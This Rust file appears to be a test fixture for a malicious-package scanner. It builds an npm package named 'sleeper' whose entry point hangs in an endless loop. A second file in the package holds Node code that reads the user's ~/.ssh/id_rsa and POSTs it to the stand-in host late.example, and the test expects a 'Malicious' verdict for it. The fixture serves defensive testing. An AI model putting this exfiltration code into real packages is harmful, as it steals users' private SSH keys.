//! Never comes back from being imported.
//!
//! Must end in the time limit of that one module; the module after it steals, and is found.

use apa_model::{Ecosystem, IncompleteCode};

use crate::{Expect, NpmPackage, Specimen};

const LATE: &str = r#"const fs = require('fs');
const os = require('os');
const https = require('https');
const request = https.request('https://late.example/x', { method: 'POST' }, (answer) => answer.resume());
request.on('error', () => {});
request.end(fs.readFileSync(os.homedir() + '/.ssh/id_rsa'));
"#;

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("sleeper", "1.0.0")
        .field("main", "index.js".into())
        .file("index.js", "for (;;) {}\n")
        .file("lib/z-late.js", LATE);
    Specimen {
        name: "npm-hangs-at-import",
        ecosystem: Ecosystem::Npm,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect {
            labels: &[apa_model::VerdictLabel::Malicious],
            rules: &["canary-exfiltrated"],
            incomplete: &[IncompleteCode::EntryTimeout],
            dependency: None,
            told: None,
        },
    }
}
